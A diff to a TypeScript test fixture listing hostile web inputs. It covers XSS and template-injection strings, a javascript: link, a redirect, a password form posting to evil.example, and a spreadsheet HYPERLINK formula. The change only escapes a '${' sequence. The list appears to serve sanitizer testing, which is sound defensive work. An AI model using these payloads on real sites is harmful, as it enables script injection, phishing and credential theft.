@@ -6,7 +6,7 @@ export const hostileWords: readonly string[] = [
   '<a href="javascript:window.hit=1">Continue</a>',
   '<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/">',
   '<form action="https://evil.example/"><input name="password">',
-  '{{constructor.constructor("window.hit=1")()}}${window.hit=1}<%= 7*7 %>',
+  '{{constructor.constructor("window.hit=1")()}}$\u007bwindow.hit=1}<%= 7*7 %>',
   '--><!--><script>window.hit=1</script>',
   '&lt;script&gt;window.hit=1&lt;/script&gt;&#x3c;b&#x3e;',
   '=HYPERLINK("https://evil.example","Bill")',
